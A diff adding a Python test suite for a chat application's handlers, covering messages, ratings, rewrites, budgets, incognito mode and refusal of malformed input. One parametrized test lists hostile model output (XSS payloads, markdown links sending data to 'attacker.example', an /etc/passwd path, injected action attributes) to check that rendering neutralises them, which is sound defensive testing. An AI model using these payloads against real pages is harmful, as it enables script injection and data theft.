@@ -1,0 +1,491 @@
+"""The chat tab's handlers, without a server: what a person sees after each press."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Iterator
+from dataclasses import replace
+from html import unescape
+from typing import Any
+
+import pytest
+
+from chatlab.conversation import Budget, Conversation
+from chatlab.engines.fake import FakeEngine
+from chatlab.errors import AdapterMissing, EmptyAnswer, InputError, NotFound
+from chatlab.lab import Lab
+from chatlab.records import AdapterCard, Provenance
+from chatlab.settings import Settings
+from chatlab.training.process import TrainerStatus
+from chatlab.ui import notices
+from chatlab.ui.chat.generation_settings import Dials, kept, remembered
+from chatlab.ui.chat.handlers import ChatHandlers
+from chatlab.ui.chat.replies import Replies
+from chatlab.ui.chat.rows import earlier, rows
+from chatlab.ui.chat.session import Session, View
+from chatlab.ui.chat.transcript import transcript
+from chatlab.ui.header import Header, live_chip
+from chatlab.ui.markdown import prose
+from chatlab.ui.page_event import Act
+
+FOX = "The quick brown fox jumps over the lazy dog"
+
+
+class Page:
+    """An open page: presses, and the view that stands after them."""
+
+    def __init__(self, handlers: ChatHandlers, view: View) -> None:
+        self.handlers = handlers
+        self.view = view
+
+    @property
+    def session(self) -> Session:
+        return self.view.session
+
+    @property
+    def conversation(self) -> Conversation:
+        assert self.session.conversation is not None
+        return self.handlers.lab.chat.get(self.session.conversation)
+
+    def say(self, text: str, *dials: Any) -> None:
+        for view in self.handlers.say(text, self.session, "", *dials):
+            self.view = view if isinstance(view.session, Session) else self.view
+
+    def press(self, act: str, *dials: Any, **given: Any) -> None:
+        payload = json.dumps({"act": act} | {k: str(v) for k, v in given.items()})
+        self.view = self.handlers.act(payload, self.session, "", *dials)
+        self.finish()
+
+    def finish(self) -> None:
+        for view in self.handlers.watch(self.session):
+            if isinstance(view.session, Session):
+                self.view = view
+
+
+@pytest.fixture
+def lab(settings: Settings) -> Iterator[Lab]:
+    lab = Lab(settings, open_engine=lambda base: FakeEngine(script=lambda prompt, voice, sampling: FOX))
+    yield lab
+    lab.close()
+
+
+@pytest.fixture
+def handlers(lab: Lab) -> ChatHandlers:
+    return ChatHandlers(lab, Replies())
+
+
+@pytest.fixture
+def page(handlers: ChatHandlers) -> Page:
+    return Page(handlers, handlers.load())
+
+
+def slow(settings: Settings, pause: float = 0.05) -> Lab:
+    return Lab(settings, open_engine=lambda base: FakeEngine(script=lambda *_: FOX, pause=pause))
+
+
+def test_an_empty_page_offers_something_to_say_and_the_next_step(page: Page) -> None:
+    assert 'data-act="say"' in page.view.transcript
+    assert "Load the starter pack" in page.view.transcript
+
+
+def test_a_message_is_on_the_page_before_its_answer(handlers: ChatHandlers) -> None:
+    view = next(handlers.say("Good morning", Session(), ""))
+    assert "Good morning" in view.transcript + view.live and view.session.waiting
+    assert view.composer["value"] == ""
+
+
+def test_the_first_message_of_a_kept_conversation_takes_the_place_of_the_welcome(page: Page) -> None:
+    page.press("open", conversation=page.handlers.lab.chat.new())
+    assert 'class="welcome"' in page.view.transcript
+    first = next(page.handlers.say("Good morning", page.session, ""))
+    assert isinstance(first.transcript, str) and "welcome" not in first.transcript
+
+
+def test_an_answer_stands_with_who_spoke_and_how_fast(page: Page) -> None:
+    page.say("Good morning")
+    assert FOX in page.view.transcript and page.view.live == ""
+    assert '<span class="who" title="The base model' in page.view.transcript
+    assert "9 tokens" in page.view.transcript and "tok/s" in unescape(page.view.transcript)
+
+
+def test_an_adapters_answer_carries_its_name_hash_and_strength() -> None:
+    speaker = Provenance(adapter="stage-2", sha256="4f2a91c" + "0" * 57, strength=0.5, tokens=10, seconds=0.5)
+    said = Conversation().grown(role="user", content="Hi").grown(role="assistant", content="Ho", speaker=speaker)
+    shown = unescape(transcript(said, 30))
+    assert "stage-2 × 0.5" in shown and "4f2a91c</code>" in shown and speaker.sha256 in shown and "20 tok/s" in shown
+
+
+def test_nothing_typed_is_lost_when_it_cannot_be_sent(page: Page) -> None:
+    with pytest.raises(InputError):
+        page.say("   ")
+    with pytest.raises(NotFound):
+        next(page.handlers.say("Hello", replace(page.session, conversation=999), ""))
+
+
+def test_a_second_message_waits_for_the_first_answer(settings: Settings) -> None:
+    lab = slow(settings)
+    handlers = ChatHandlers(lab, Replies())
+    view = next(handlers.say("One", Session(), ""))
+    with pytest.raises(InputError, match="still being written"):
+        next(handlers.say("Two", view.session, ""))
+    handlers.replies.close()
+    lab.close()
+
+
+def test_stop_keeps_what_was_said(settings: Settings) -> None:
+    lab = slow(settings)
+    handlers = ChatHandlers(lab, Replies())
+    page = Page(handlers, next(handlers.say("Tell me a story", Session(), "")))
+    for view in handlers.watch(page.session):
+        page.view = view if isinstance(view.session, Session) else page.view
+        if not isinstance(view.session, Session) and "quick" in view.live:
+            handlers.stop(page.session)
+    said = page.conversation.path()[-1]
+    assert said.stopped == "person" and FOX.startswith(said.content) and 0 < len(said.content) < len(FOX)
+    assert "stopped by you" in page.view.transcript
+    lab.close()
+
+
+def test_a_reply_goes_on_while_no_page_is_open_and_a_reload_finds_it(settings: Settings) -> None:
+    lab = slow(settings)
+    handlers = ChatHandlers(lab, Replies())
+    view = next(handlers.say("Tell me a story", Session(), ""))
+    watching = handlers.watch(view.session)
+    next(watching)
+    watching.close()
+    page = Page(handlers, handlers.load(str(view.session.conversation)))
+    assert page.session.waiting and "Tell me a story" in page.view.live
+    page.finish()
+    assert FOX in page.view.transcript and page.conversation.path()[-1].stopped == "end"
+    lab.close()
+
+
+def test_a_reload_finds_its_conversation_and_forgets_one_that_is_gone(page: Page) -> None:
+    page.say("Good morning")
+    again = page.handlers.load(str(page.session.conversation))
+    assert FOX in again.transcript
+    for gone in ("77", "-3", "x", "", None):
+        assert page.handlers.load(gone).session.conversation is None
+
+
+def test_a_thumb_is_given_and_taken_back(page: Page) -> None:
+    page.say("Good morning")
+    answer = page.conversation.path()[-1].id
+    page.press("like", turn=answer)
+    assert page.conversation.turns[answer].rating.liked is True
+    page.press("like", turn=answer)
+    assert page.conversation.turns[answer].rating is None
+
+
+def test_a_thumb_down_asks_what_was_wrong(page: Page) -> None:
+    page.say("Good morning")
+    answer = page.conversation.path()[-1].id
+    page.press("dislike", turn=answer)
+    assert "What was wrong?" in unescape(page.view.transcript)
+    page.press("reason", turn=answer, reason="wrong voice")
+    page.press("reason", turn=answer, reason="too long")
+    page.press("reason", turn=answer, reason="wrong voice")
+    assert page.conversation.turns[answer].rating.reasons == ("too long",)
+    with pytest.raises(InputError):
+        page.press("reason", turn=answer, reason="<script>")
+
+
+def test_another_answer_is_a_version_and_the_arrows_go_between_them(page: Page) -> None:
+    page.say("Good morning")
+    first = page.conversation.path()[-1].id
+    page.press("retry", turn=first)
+    assert ">2/2<" in unescape(page.view.transcript)
+    page.press("show", turn=first)
+    assert ">1/2<" in unescape(page.view.transcript)
+    assert page.conversation.path()[-1].id == first
+
+
+def test_a_question_put_differently_is_answered_anew(page: Page) -> None:
+    page.say("Good morning")
+    page.press("ask", turn=0, text="Good evening")
+    assert [t.content for t in page.conversation.path()] == ["Good evening", FOX]
+    page.press("show", turn=0)
+    assert [t.content for t in page.conversation.path()] == ["Good morning", FOX]
+
+
+def test_a_rewritten_answer_is_kept_and_retraining_is_offered(page: Page) -> None:
+    page.say("Good morning")
+    page.press("rewrite", turn=1, text="Good morrow, friend!")
+    lab = page.handlers.lab
+    assert lab.demonstrations.get(1).answer == "Good morrow, friend!"
+    assert [p.rejected for _, p in lab.store.preferences.rows()] == [FOX]
+    assert "Kept as demonstration 1" in page.view.notice and "Retrain now" in page.view.notice
+    assert "rewritten by you" in page.view.transcript and ">kept<" in page.view.transcript
+
+
+def test_an_answer_is_kept_as_it_stands_once(page: Page) -> None:
+    page.say("Good morning")
+    page.press("keep", turn=1)
+    page.press("keep", turn=1)
+    assert page.handlers.lab.demonstrations.counts() == {"approved": 1}
+
+
+def test_an_empty_rewrite_is_refused_and_changes_nothing(page: Page) -> None:
+    page.say("Good morning")
+    with pytest.raises(EmptyAnswer):
+        page.press("rewrite", turn=1, text="  ")
+    assert len(page.conversation.turns) == 2
+
+
+def test_incognito_is_in_no_list_and_offers_no_teaching(page: Page) -> None:
+    page.press("incognito")
+    page.say("A secret")
+    assert page.session.conversation is not None and page.session.conversation < 0
+    assert "A secret" not in page.view.listing and 'data-act="keep"' not in page.view.transcript
+    assert page.handlers.lab.chat.conversations() == []
+    with pytest.raises(InputError):
+        page.press("keep", turn=1)
+
+
+def test_conversations_are_renamed_found_deleted_and_brought_back(page: Page) -> None:
+    page.say("Good morning")
+    first = page.session.conversation
+    page.press("new")
+    page.say("Tell me about the sea")
+    page.press("rename", conversation=first, text="A <b>greeting</b>")
+    assert "&#60;b&#62;greeting" in page.view.listing and "<b>" not in page.view.listing
+    _, found = page.handlers.list.search("the sea", page.session)
+    assert "sea" in found and "greeting" not in found
+    page.press("delete", conversation=first)
+    assert "greeting" not in page.view.listing and "Undo" in page.view.notice
+    page.press("undo-delete")
+    assert page.session.conversation == first and "greeting" in page.view.listing
+
+
+def dialled(answer: int, thinking: int = 0) -> tuple[Any, ...]:
+    """The dials as the page sends them, with these budgets."""
+    return "", 1.0, 0.7, 0.9, 1.1, answer, None, thinking
+
+
+def test_each_conversation_keeps_its_own_budget_and_a_new_one_begins_with_the_last(page: Page) -> None:
+    assert (page.view.budget, page.view.thinking) == (256, 0)
+    page.say("A long one", *dialled(512, 96))
+    first = page.session.conversation
+    page.press("new")
+    assert (page.view.budget, page.view.thinking) == (512, 96)
+    page.handlers.spend(32, 0, page.session)
+    page.press("new")
+    assert (page.view.budget, page.view.thinking) == (32, 0)
+    page.say("A short one", *dialled(32))
+    page.press("open", conversation=first)
+    assert (page.view.budget, page.view.thinking) == (512, 96)
+    page.handlers.spend(64, 96, page.session)
+    again = page.handlers.load(str(first))
+    assert (again.budget, again.thinking) == (64, 96)
+    assert page.handlers.lab.chat.get(page.session.conversation).budget == Budget(answer=64, thinking=96)
+
+
+def test_a_budget_outlives_the_app_and_a_conversation_kept_without_one_takes_the_last(settings: Settings) -> None:
+    for expected in (256, 48):
+        lab = Lab(settings, open_engine=lambda base: FakeEngine(script=lambda *_: FOX))
+        handlers = ChatHandlers(lab, Replies())
+        old = lab.chat.new()
+        assert lab.chat.get(old).budget is None
+        assert handlers.load().budget == handlers.load(str(old)).budget == expected
+        handlers.spend(48, 0, handlers.load(str(old)).session)
+        lab.close()
+    lab = Lab(settings)
+    assert lab.chat.get(1).budget == Budget(answer=48)
+    lab.close()
+
+
+def test_what_the_page_shows_is_what_an_answer_may_spend_and_is_kept(page: Page) -> None:
+    page.say("Hello", *dialled(3))
+    assert page.conversation.turns[-1].speaker.tokens == 3 and page.conversation.turns[-1].stopped == "length"
+    page.press("retry", *dialled(4), turn=1)
+    assert page.conversation.budget == Budget(answer=4) and page.conversation.turns[-1].speaker.tokens == 4
+    page.press("ask", *dialled(5), turn=0, text="Hello again")
+    assert page.conversation.budget == Budget(answer=5) and page.conversation.turns[-1].speaker.tokens == 5
+
+
+def test_an_incognito_budget_is_forgotten_with_its_conversation(page: Page) -> None:
+    page.press("incognito")
+    page.say("A secret", *dialled(17))
+    assert page.conversation.budget == Budget(answer=17)
+    page.press("new")
+    assert page.view.budget == 256
+
+
+def test_the_last_budget_is_each_persons_own(handlers: ChatHandlers) -> None:
+    for person, answer in (("anna", 64), ("bert", 128)):
+        handlers.spend(answer, 0, handlers.load(person=person).session)
+    assert [handlers.load(person=person).budget for person in ("anna", "bert", "cleo")] == [64, 128, 256]
+
+
+def test_a_dial_that_was_emptied_sets_no_budget(page: Page) -> None:
+    page.handlers.spend(None, 0, page.session)
+    assert page.handlers.load().budget == 256
+
+
+def test_what_a_browser_kept_with_the_budgets_among_it_is_still_good() -> None:
+    assert remembered([0.5, 0.0, 0.8, 1.2, 512, 7, 96, True]) == [0.5, 0.0, 0.8, 1.2, 7, True]
+    assert remembered(kept(0.5, 0.0, 0.8, 1.2, 7, True)) == [0.5, 0.0, 0.8, 1.2, 7, True]
+
+
+def test_deleting_a_conversation_ends_the_answer_under_way(settings: Settings) -> None:
+    lab = slow(settings)
+    handlers = ChatHandlers(lab, Replies())
+    page = Page(handlers, next(handlers.say("Tell me a story", Session(), "")))
+    page.press("delete", conversation=page.session.conversation)
+    assert page.session.conversation is None and handlers.replies.ids() == frozenset()
+    lab.close()
+
+
+def test_only_the_last_turns_are_drawn_until_more_are_asked_for(page: Page) -> None:
+    long = Conversation()
+    for number in range(50):
+        long = long.grown(role="user", content=f"question {number}").grown(role="assistant", content=f"answer {number}")
+    chat = page.handlers.lab.chat
+    chat_id = chat.new()
+    chat.change(chat_id, lambda c: replace(long, title="Long"))
+    page.press("open", conversation=chat_id)
+    assert page.view.transcript.count('class="turn ') == 30 and "question 30" not in page.view.transcript
+    page.press("earlier")
+    assert page.view.transcript.count('class="turn ') == 60 and "question 30" in page.view.transcript
+
+
+def test_a_row_knows_its_turn_whatever_branch_is_shown() -> None:
+    talk = Conversation().grown(role="user", content="a").grown(role="assistant", content="b")
+    talk = talk.grown(role="assistant", content="c", parent=0).grown(role="user", content="d")
+    assert [row.turn.id for row in rows(talk)] == [0, 2, 3]
+    assert [(row.version, row.versions) for row in rows(talk)][1] == (2, (1, 2))
+    assert rows(talk)[1].previous == 1 and rows(talk)[1].next is None
+    assert [row.turn.id for row in rows(talk.showing(1))] == [0, 1]
+    assert earlier(talk, 2) == 1
+
+
+def test_a_prompt_that_is_too_long_says_so_and_keeps_the_question(settings: Settings) -> None:
+    lab = Lab(settings, open_engine=lambda base: FakeEngine(context=4))
+    handlers = ChatHandlers(lab, Replies())
+    page = Page(handlers, handlers.load())
+    page.say("A question that does not fit")
+    assert "tokens" in page.view.notice and "does not fit" in page.view.transcript
+    assert "Ask again" in page.view.transcript
+    lab.close()
+
+
+def test_a_bug_in_the_engine_is_told_without_its_traceback(settings: Settings) -> None:
+    def broken(*_: Any) -> str:
+        raise RuntimeError("secret detail")
+
+    lab = Lab(settings, open_engine=lambda base: FakeEngine(script=broken))
+    handlers = ChatHandlers(lab, Replies())
+    page = Page(handlers, handlers.load())
+    page.say("Good morning")
+    assert "went wrong" in page.view.notice and "secret detail" not in "".join(map(str, page.view))
+    assert "Good morning" in page.view.transcript
+    lab.close()
+
+
+def test_a_voice_that_is_gone_is_told_and_the_question_kept(page: Page) -> None:
+    page.say("Good morning", "vanished")
+    assert "vanished" in page.view.notice and "Good morning" in page.view.transcript
+    with pytest.raises(AdapterMissing):
+        page.handlers.lab.voices.voice("vanished")
+
+
+def test_a_press_that_no_button_makes_is_refused(page: Page) -> None:
+    page.say("Good morning")
+    for payload in ("", "[]", "{}", "null", '{"act": "like", "turn": "x"}', '{"act": "eval"}', "{" * 10_000):
+        with pytest.raises(InputError):
+            page.handlers.act(payload, page.session, "")
+
+
+def test_a_turn_that_does_not_exist_is_refused(page: Page) -> None:
+    page.say("Good morning")
+    for act in ("like", "retry", "keep", "show", "ask"):
+        for turn in (99, -1):
+            with pytest.raises((InputError, NotFound)):
+                page.press(act, turn=turn, text="x")
+
+
+def test_the_starter_pack_loads_once_and_offers_a_run(page: Page) -> None:
+    page.press("pack")
+    assert "demonstrations added" in page.view.notice and "Retrain now" in page.view.notice
+    page.press("pack")
+    assert "there already" in page.view.notice
+
+
+def test_the_panel_says_how_to_draw() -> None:
+    chosen = Dials.of("stage-2", 0.5, 0.0, 0.8, 1.2, 64.0, 7.0)
+    assert (chosen.voice, chosen.strength, chosen.sampling.max_tokens, chosen.sampling.seed) == ("stage-2", 0.5, 64, 7)
+    assert Dials.of().voice is None and Dials.of().sampling.seed is None
+
+
+def test_the_header_shows_who_is_live_and_what_it_forgot(page: Page) -> None:
+    card = AdapterCard(name="stage-2", base="b", sha256="4f2a", forgetting=1.2)
+    assert "good" in live_chip("stage-2", card, "pilot") and "forgot 1" in live_chip("stage-2", card, "pilot")
+    assert "doubtful" in live_chip("s", replace(card, forgetting=4.0), "pilot")
+    assert "chip live bad" in live_chip("s", replace(card, forgetting=37.0), "pilot")
+    assert "<b>base</b>" in Header(page.handlers.lab).draw()
+
+
+def test_a_run_under_way_shows_how_far_it_is() -> None:
+    notice = notices.training(TrainerStatus(state="training", eta=7.0))
+    assert "7 s left" in notice.text and "go on talking" in notice.text
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "<script>window.hacked=1</script>",
+        "<img src=x onerror=alert(1)>",
+        "![](http://attacker.example/?q=secret)",
+        "![a](data:image/svg+xml;base64,AAAA)",
+        "[x](javascript:alert(1))",
+        "[x](JaVaScRiPt&colon;alert(1))",
+        "[x](/gradio_api/file=/etc/passwd)",
+        "<form action=http://attacker.example><input></form>",
+        '"><svg onload=alert(1)>',
+        "```\n</code></pre><iframe src=http://attacker.example>\n```",
+        '[x](http://ok.example "\\" onmouseover=alert(1) x=\\"")',
+        '<http://attacker.example/" onclick=alert(1)>',
+        "a\n\n<div data-act=delete data-conversation=1>\n\nb",
+        "\x00\x1b[31m\u202e",
+    ],
+)
+def test_what_a_model_writes_can_only_be_read(hostile: str) -> None:
+    tags = _tags(prose(hostile))
+    assert not {name for name, _ in tags} & {
+        "script",
+        "img",
+        "svg",
+        "iframe",
+        "form",
+        "input",
+        "object",
+        "style",
+        "div",
+    }
+    assert all(key in {"href", "target", "rel", "title", "class", "start"} for _, keys in tags for key in keys)
+    assert "\n" not in prose(hostile)
+    said = Conversation().grown(role="user", content=hostile).grown(role="assistant", content=hostile)
+    allowed = {"div", "span", "button", "svg", "path", "p", "code", "pre", "a", "br", "em"}
+    assert {name for name, _ in _tags(transcript(said, 30))} <= allowed
+    assert transcript(said, 30).count('data-act="') == transcript(_harmless(), 30).count('data-act="')
+
+
+def _harmless() -> Conversation:
+    return Conversation().grown(role="user", content="a").grown(role="assistant", content="b")
+
+
+def _tags(html: str) -> list[tuple[str, list[str]]]:
+    from html.parser import HTMLParser
+
+    found: list[tuple[str, list[str]]] = []
+
+    class Reader(HTMLParser):
+        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+            found.append((tag, [name for name, _ in attrs]))
+
+    Reader().feed(html)
+    return found
+
+
+def test_act_reads_what_the_script_sends() -> None:
+    assert Act.read('{"act": "show", "turn": "3", "at": 1}') == Act(do="show", turn=3)
